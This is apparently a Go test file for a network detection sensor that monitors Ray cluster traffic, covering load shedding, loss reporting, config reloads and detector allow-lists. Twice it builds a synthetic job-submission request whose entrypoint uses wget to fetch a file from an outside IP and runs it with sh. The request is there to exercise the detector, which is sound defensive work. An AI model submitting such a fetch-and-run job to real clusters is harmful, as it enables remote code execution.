package engine

import (
	"context"
	"encoding/binary"
	"io"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/beacon"
	"github.com/raytap/raytap/detectors/dnstunnel"
	"github.com/raytap/raytap/detectors/intel"
	"github.com/raytap/raytap/detectors/oast"
	"github.com/raytap/raytap/detectors/scan"
	"github.com/raytap/raytap/detectors/shell"
	"github.com/raytap/raytap/interpreters"
	"github.com/raytap/raytap/registry"
)

// fakeLive plays frames as a live source does: a few at a time, with what before says of the ring.
type fakeLive struct {
	frames []capture.Frame
	at     int
	per    int // frames in a batch
	before func(b *capture.Batch, at int)
	idle   []capture.Time // clocks of batches without frames, at the end
}

func (f *fakeLive) ReadBatch(b *capture.Batch) error {
	b.Frames, b.Clock, b.Fill = b.Frames[:0], 0, 0
	if f.at == len(f.frames) {
		if len(f.idle) == 0 {
			return io.EOF
		}
		b.Clock, f.idle = f.idle[0], f.idle[1:]
		return nil
	}
	n := min(f.per, len(f.frames)-f.at)
	b.Frames = append(b.Frames, f.frames[f.at:f.at+n]...)
	f.at += n
	if f.before != nil {
		f.before(b, f.at)
	}
	return nil
}

func (f *fakeLive) Stop()        {}
func (f *fakeLive) Close() error { return nil }

// allFrames reads a labelled capture into memory.
func allFrames(t *testing.T, name string) (all []capture.Frame) {
	t.Helper()
	src, err := capture.OpenFile("pcaps/" + name + ".pcap.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	var b capture.Batch
	for {
		err := src.ReadBatch(&b)
		for _, f := range b.Frames {
			f.Data = slices.Clone(f.Data)
			all = append(all, f)
		}
		if err == io.EOF {
			return all
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// kept takes everything that is said.
type kept struct{ all []any }

func (k *kept) Event(ev any) { k.all = append(k.all, ev) }

func (k *kept) rules(prefix string) (names []string) {
	for _, ev := range k.all {
		if f, ok := ev.(*detectors.Finding); ok && strings.HasPrefix(f.Rule, prefix) {
			names = append(names, f.Rule+" "+f.Src.String()+" "+f.Dst.String()+" "+f.Severity.String())
		}
	}
	slices.Sort(names)
	return names
}

func (k *kept) rows(log string) (all []columns) {
	for _, ev := range k.all {
		if r, ok := ev.(capture.Record); ok && r.Log() == log {
			c := columns{}
			r.Row(c)
			all = append(all, c)
		}
	}
	return all
}

func runLive(t *testing.T, cfg Config, src capture.Source) (*kept, Stats) {
	t.Helper()
	k := &kept{}
	stats, err := run(context.Background(), cfg, src, k)
	if err != nil {
		t.Fatal(err)
	}
	return k, stats
}

// TestShedNeverTheJob: at the worst level from the first packet on, every submission is found that is found otherwise.
func TestShedNeverTheJob(t *testing.T) {
	for _, name := range []string{"shadowray", "attack-job-payload", "attack-job-split", "attack-job-blind", "attack-job-agent",
		"attack-job-runtime-env", "attack-job-encoded", "attack-worm"} {
		frames := allFrames(t, name)
		want, whole := runLive(t, Default(), &fakeLive{frames: frames, per: 50})
		got, stats := runLive(t, Default(), &fakeLive{frames: frames, per: 50, before: func(b *capture.Batch, _ int) { b.Fill = 100 }})
		if w, g := want.rules("jobsubmit/"), got.rules("jobsubmit/"); len(w) == 0 || !slices.Equal(g, w) {
			t.Errorf("%s: got %q, want %q", name, g, w)
		}
		if stats.Flow.ShedNew == 0 || whole.Flow.ShedNew+whole.Flow.ShedBytes+whole.ShedBodies != 0 {
			t.Errorf("%s: shed %d new, otherwise %+v", name, stats.Flow.ShedNew, whole.Flow)
		}
	}
}

// TestShedBulkFindsWhatComesBehind: megabytes on a kept-alive connection are left out, and the job behind them is not.
func TestShedBulkFindsWhatComesBehind(t *testing.T) {
	const big = 3 << 20
	var c talk
	c.open()
	c.say(false, "GET /model.bin HTTP/1.1\r\nHost: 10.20.0.10\r\n\r\n")
	c.say(true, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 3145728\r\n\r\n")
	for range big / 1024 {
		c.say(true, strings.Repeat("\x01", 1024))
	}
	body := `{"entrypoint": "wget -q http://198.51.100.77/x -O /tmp/.x; sh /tmp/.x"}`
	c.say(false, "POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: 71\r\n\r\n"+body)
	c.say(true, "HTTP/1.1 200 OK\r\nServer: Python/3.10 aiohttp/3.9.1\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"job_id\": \"01\"}")
	for _, fill := range []int{0, shedBulkAt} {
		k, stats := runLive(t, Default(), &fakeLive{frames: c.frames, per: 100, before: func(b *capture.Batch, _ int) { b.Fill = fill }})
		if got := k.rules("jobsubmit/"); len(got) == 0 {
			t.Errorf("ring at %d%%: nothing is found", fill)
		}
		if shed := stats.Flow.ShedBytes; (shed > big/2) != (fill > 0) || shed > big {
			t.Errorf("ring at %d%%: %d bytes are shed", fill, shed)
		}
		if rows := k.rows("http"); len(rows) != 2 || rows[0]["uri"] != "/model.bin" || rows[1]["status_code"] != "200" {
			t.Errorf("ring at %d%%: %v", fill, rows)
		}
	}
}

// TestShedBodies: a coded body that tells nothing of Ray is not decoded, one that does is.
func TestShedBodies(t *testing.T) {
	frames := allFrames(t, "benign-lookalikes")
	_, stats := runLive(t, Default(), &fakeLive{frames: frames, per: 50, before: func(b *capture.Batch, _ int) { b.Fill = shedBodiesAt }})
	if stats.ShedBodies == 0 || stats.Flow.ShedBytes+stats.Flow.ShedNew != 0 {
		t.Errorf("%d bodies, %+v", stats.ShedBodies, stats.Flow)
	}
}

func TestShedOrder(t *testing.T) {
	level := capture.ShedNothing
	for _, c := range []struct {
		fill int
		want capture.ShedLevel
	}{
		{0, capture.ShedNothing}, {49, capture.ShedNothing}, {50, capture.ShedBodies}, {30, capture.ShedBodies},
		{70, capture.ShedBulk}, {55, capture.ShedBulk}, {85, capture.ShedNewFlows}, {26, capture.ShedNewFlows},
		{24, capture.ShedNothing}, {100, capture.ShedNewFlows},
	} {
		if level = shedAt(level, c.fill); level != c.want {
			t.Errorf("at %d%%: %v, want %v", c.fill, level, c.want)
		}
	}
	for _, c := range []struct {
		text string
		want bool
	}{
		{"POST /api/jobs/ HTTP/1.1\r\n", true},
		{"GET http://10.0.0.1:8265/api/version HTTP/1.1\r\n", true},
		{"PUT /api/serve/applications/ HTTP/1.1\r\n", true},
		{"POST /index.php HTTP/1.1\r\n", false},
		{"/api/jobs/", false},
		{"", false},
	} {
		if callsRay([]byte(c.text)) != c.want {
			t.Errorf("%q: %v", c.text, !c.want)
		}
	}
}

// TestLiveMinutes: rows add up to the whole, time goes on without packets, and loss beyond the bound is a finding.
func TestLiveMinutes(t *testing.T) {
	frames := allFrames(t, "beacon-http")
	last := frames[len(frames)-1].Time
	for _, c := range []struct {
		lost uint64 // of 1000
		want int
	}{{0, 0}, {5, 0}, {20, 1}} {
		total := 0
		src := &fakeLive{frames: frames, per: 10, before: func(b *capture.Batch, at int) {
			total = at
			b.Live.Received, b.Live.Dropped = uint64(at)*1000, uint64(at)*c.lost
		}}
		for s := range 400 {
			src.idle = append(src.idle, last+capture.Time(s)*1e9)
		}
		k, stats := runLive(t, Default(), src)
		rows := k.rows("stats")
		if len(rows) < 7 || len(k.rows("capture_loss")) != len(rows)-1 {
			t.Errorf("%d rows of stats, %d of capture_loss", len(rows), len(k.rows("capture_loss")))
		}
		sum := 0
		for _, r := range rows {
			sum += atoi(r["pkts_proc"])
		}
		if sum != total || stats.Packets != uint64(total) {
			t.Errorf("%d packets in rows, %d in all, of %d", sum, stats.Packets, total)
		}
		if got := k.rules("sensor/loss"); len(got) != c.want {
			t.Errorf("%d of 1000 lost: %q", c.lost, got)
		}
		// The last flow ended by its time-out, not by the end of the run.
		conns := 0
		for i, ev := range k.all {
			if _, ok := ev.(*capture.Conn); ok {
				conns++
			} else if r, ok := ev.(*statsRow); ok && i == len(k.all)-1 && r.s.Flow.Flows != 0 {
				t.Error("flows in the last row")
			}
		}
		if conns == 0 {
			t.Error("no flow ended")
		}
	}
}

func atoi(s string) (n int) {
	for _, c := range s {
		n = 10*n + int(c-'0')
	}
	return n
}

// TestUnseenBytesAreEstimated: of a capture that misses packets the acknowledgements tell.
func TestUnseenBytesAreEstimated(t *testing.T) {
	for _, drop := range []int{0, 20} {
		var c talk
		c.open()
		for i := range 2000 {
			c.say(i%2 == 0, strings.Repeat("x", 100))
			if drop > 0 && i%drop == 7 {
				c.frames = c.frames[:len(c.frames)-1]
			}
		}
		_, stats := runLive(t, Default(), &fakeLive{frames: c.frames, per: 100})
		f := stats.Flow
		if f.Acks < 1500 || f.AckedBytes < 150_000 || (drop == 0) != (f.Gaps == 0) || drop > 0 && (f.Gaps < 90 || f.Gaps > 110 || f.Unseen != f.Gaps*100) {
			t.Errorf("every %dth is missing: %+v", drop, f)
		}
	}
}

// when is the number of batches that were through before a finding of a rule came.
type when struct {
	rule    string
	batches int
	came    int // -1: not yet
}

func (w *when) Event(ev any) {
	if f, ok := ev.(*detectors.Finding); ok && f.Rule == w.rule && w.came < 0 {
		w.came = w.batches
	}
}

// TestLossIsToldSoon: an answer to what was lost waits for it, and no longer than it has to though nothing more comes in the
// flow, nor in any other. Replay, of which nobody waits for a finding, has its clock move once a second.
func TestLossIsToldSoon(t *testing.T) {
	var c talk
	c.open()
	body := `{"entrypoint": "wget -q http://198.51.100.77/x -O /tmp/.x; sh /tmp/.x"}`
	c.say(false, "POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: 71\r\n\r\n")
	c.say(false, body)
	c.frames = c.frames[:len(c.frames)-1]
	c.say(true, "HTTP/1.1 200 OK\r\nServer: Python/3.10 aiohttp/3.9.1\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"job_id\": \"01\"}")
	for _, wait := range []time.Duration{0, 40 * time.Millisecond, 100 * time.Millisecond} {
		src := &fakeLive{frames: c.frames, per: len(c.frames)}
		for n := range 40 {
			src.idle = append(src.idle, c.frames[0].Time+capture.Time(n+1)*tickLive)
		}
		w := &when{rule: "jobsubmit/external", came: -1}
		cfg := Default()
		cfg.Order.Wait = wait
		cfg.Progress = func(Stats) { w.batches++ }
		stats, err := run(context.Background(), cfg, src, w)
		if err != nil {
			t.Fatal(err)
		}
		// The first batch has the frames, and each one behind it lets the clock move on by a tick.
		if late := time.Duration(w.came) * time.Duration(tickLive); w.came < 0 || late < wait || late > wait+time.Duration(tickLive) {
			t.Errorf("waits for %v: told after %d batches; %+v", wait, w.came, stats.Flow)
		}
		if (stats.Flow.WaitTime > 0) != (wait > 0) {
			t.Errorf("waits for %v: %+v", wait, stats.Flow)
		}
	}
}

// TestReloadWhileRunning: new home networks and bounds hold from then on.
func TestReloadWhileRunning(t *testing.T) {
	frames := allFrames(t, "attack-job-payload")
	reload := make(chan *Config, 1)
	cfg := Default()
	cfg.Home, cfg.Reload = []string{"0.0.0.0/0"}, reload
	if k, _ := runLive(t, cfg, &fakeLive{frames: frames, per: 10}); len(k.rules("jobsubmit/external")) != 0 {
		t.Fatal("everybody is at home")
	}
	next := Default()
	k, _ := runLive(t, cfg, &fakeLive{frames: frames, per: 10, before: func(_ *capture.Batch, at int) {
		if at == 10 {
			reload <- &next // taken by the run: nothing of a job has passed yet
		}
	}})
	if len(k.rules("jobsubmit/external")) == 0 {
		t.Error("the new networks are not in force")
	}
}

// TestReloadedSettingsHold: what is allowed while a capture goes on is passed over from then on.
func TestReloadedSettingsHold(t *testing.T) {
	for _, c := range []struct {
		capture, rule string
		allow         func(*Config)
	}{
		{"attack-shell", "shell/interactive", func(c *Config) {
			detectors.Change(&c.Sections, func(s *shell.Config) { s.Allow = []string{"198.51.100.77"} })
		}},
		{"attack-job-blind", "oast/callback", func(c *Config) {
			detectors.Change(&c.Sections, func(s *oast.Config) { s.Allow = []string{"10.20.0.0/24"} })
		}},
		{"egress-dns", "egress/dns_tunnel", func(c *Config) {
			detectors.Change(&c.Sections, func(s *dnstunnel.Config) { s.Allow = []string{"tunnel.example"} })
		}},
		{"beacon-http", "beacon/regular", func(c *Config) {
			detectors.Change(&c.Sections, func(s *beacon.Config) { s.Allow = []string{"198.51.100.77"} })
		}},
		{"attack-scan", "scan/hosts", func(c *Config) {
			detectors.Change(&c.Sections, func(s *scan.Config) { s.Allow = []string{"203.0.113.90"} })
		}},
	} {
		frames := allFrames(t, c.capture)
		reload := make(chan *Config, 1)
		cfg := Default()
		cfg.Reload = reload
		next := cfg
		c.allow(&next)
		for _, with := range []bool{false, true} {
			k, _ := runLive(t, cfg, &fakeLive{frames: frames, per: 5, before: func(_ *capture.Batch, at int) {
				if with && at == 5 {
					reload <- &next
				}
			}})
			if got := k.rules(c.rule); (len(got) == 0) != with {
				t.Errorf("%s, allowed: %v: %q", c.capture, with, got)
			}
		}
	}
}

// TestIndicatorsAreExchanged: what intelligence lists now is met, and what it listed before is not.
func TestIndicatorsAreExchanged(t *testing.T) {
	frames := allFrames(t, "attack-shell")
	b := intel.NewBuilder()
	if _, err := b.Load("list.csv", strings.NewReader("indicator,type\n198.51.100.77,ip\n"), time.Now()); err != nil {
		t.Fatal(err)
	}
	mine := b.Build()
	own, err := intel.BuiltIn(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		before, then *intel.Set
		want         bool
	}{{own, mine, true}, {mine, own, false}} {
		cfg := Default()
		cfg.Indicators = intel.NewLive(c.before)
		k, _ := runLive(t, cfg, &fakeLive{frames: frames, per: 1, before: func(_ *capture.Batch, at int) {
			if at == 1 {
				cfg.Indicators.Swap(c.then)
			}
		}})
		if got := k.rules("intel/match"); (len(got) > 0) != c.want {
			t.Errorf("want %v: %q", c.want, got)
		}
	}
}

// TestProgressTellsFlows: while a run goes on its progress has what the workers count, a second late at most.
func TestProgressTellsFlows(t *testing.T) {
	frames := allFrames(t, "beacon-http")
	last := frames[len(frames)-1].Time
	cfg := Default()
	var most, flows, findings uint64
	active := 0
	cfg.Progress = func(s Stats) {
		if s.Flow.Flows < flows || s.Findings < findings {
			t.Errorf("%d flows and %d findings, then %d and %d", flows, findings, s.Flow.Flows, s.Findings)
		}
		flows, findings, active = s.Flow.Flows, s.Findings, max(active, s.ActiveFlows)
		if s.Packets < uint64(len(frames)) {
			most = s.Flow.Flows
		}
	}
	_, stats := runLive(t, cfg, &fakeLive{frames: frames, per: 10, idle: []capture.Time{last + 2e9}})
	if most == 0 || most > stats.Flow.Flows || active == 0 || uint64(active) > stats.Flow.Flows {
		t.Errorf("%d flows in the middle, %d active at most, %d in all", most, active, stats.Flow.Flows)
	}
	if flows != stats.Flow.Flows || stats.ActiveFlows != 0 {
		t.Errorf("%d flows at last, %d in all, %d active then", flows, stats.Flow.Flows, stats.ActiveFlows)
	}
}

// talk is a TCP connection from 203.0.113.66 to the Ray at 10.20.0.10:8265, each side acknowledging the other.
type talk struct {
	frames []capture.Frame
	seq    [2]uint32
}

func (c *talk) open() {
	c.seq = [2]uint32{1000, 5000}
	c.frame(0, 2, "")
	c.seq[0]++
	c.frame(1, 18, "")
	c.seq[1]++
	c.frame(0, 16, "")
}

func (c *talk) say(server bool, text string) {
	side := 0
	if server {
		side = 1
	}
	c.frame(side, 24, text)
	c.seq[side] += uint32(len(text))
}

func (c *talk) frame(side int, flags byte, text string) {
	ends := [2]string{"\xcb\x00\x71\x42", "\x0a\x14\x00\x0a"}
	ports := [2]uint16{40000, 8265}
	b := append([]byte{2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0, 0x45, 0}, byte((40+len(text))>>8), byte(40+len(text)), 0, 0, 0, 0, 64, 6, 0, 0)
	b = append(b, ends[side]+ends[1-side]...)
	s := uint32(0)
	for i := 14; i < 34; i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	binary.BigEndian.PutUint16(b[24:], ^uint16(s>>16+s&0xffff))
	b = binary.BigEndian.AppendUint16(b, ports[side])
	b = binary.BigEndian.AppendUint16(b, ports[1-side])
	b = binary.BigEndian.AppendUint32(b, c.seq[side])
	b = binary.BigEndian.AppendUint32(b, c.seq[1-side])
	b = append(b, 5<<4, flags, 0xff, 0xff, 0, 0, 0, 0)
	b = append(b, text...)
	n := len(c.frames)
	c.frames = append(c.frames, capture.Frame{Time: 1763916000e9 + capture.Time(n)*1e5, Ordinal: uint64(n + 1), Data: b, WireLen: len(b), Link: 1, NoChecksum: true})
}

// TestStandstillIsSaid: a decoder that takes long over one flow makes a finding about that flow, while all else is found as
// before; what is read of a file says nothing of the machine.
func TestStandstillIsSaid(t *testing.T) {
	frames := allFrames(t, "shadowray")
	for _, live := range []bool{true, false} {
		var src capture.Source = &fakeLive{frames: frames, per: 20}
		if !live {
			file, err := capture.OpenFile("pcaps/shadowray.pcap.gz")
			if err != nil {
				t.Fatal(err)
			}
			defer file.Close()
			src = file
		}
		cfg := Default()
		cfg.Fragile = true
		k := &kept{}
		e, err := newEngine(cfg, src, []Sink{k})
		if err != nil {
			t.Fatal(err)
		}
		const after = 50 * time.Millisecond
		e.standAfter = after
		var slow atomic.Pointer[capture.Flow]
		for _, w := range e.workers {
			w.interp = interpreters.NewSet(append(registry.Interpreters(e.home), interpreters.Interpreter{HTTP: func(x *http.Transaction) any {
				if slow.CompareAndSwap(nil, x.Flow) {
					for begin := time.Now(); time.Since(begin) < 3*after; {
					}
				}
				return nil
			}})...)
		}
		if _, err := e.run(context.Background()); err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, ev := range k.all {
			if f, ok := ev.(*detectors.Finding); ok && f.Rule == "sensor/standstill" {
				if f.Flow != nil && f.Flow.UID == slow.Load().UID {
					n++
				}
			}
		}
		if live != (n == 1) {
			t.Errorf("live %v: %d findings about the flow", live, n)
		}
		if len(k.rules("jobsubmit/")) == 0 {
			t.Error("no job was found")
		}
	}
}
